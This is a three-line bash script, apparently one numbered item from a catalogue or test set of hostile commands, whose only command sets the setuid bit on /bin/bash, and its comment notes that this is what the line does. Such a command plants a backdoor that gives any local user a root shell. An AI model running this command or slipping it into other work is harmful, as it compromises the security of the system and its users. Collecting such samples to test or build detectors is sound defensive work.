#!/usr/bin/env bash
# attack-class: 24
# title: chmod 4755 /bin/bash
# why: sets the setuid bit on a shell

chmod 4755 /bin/bash
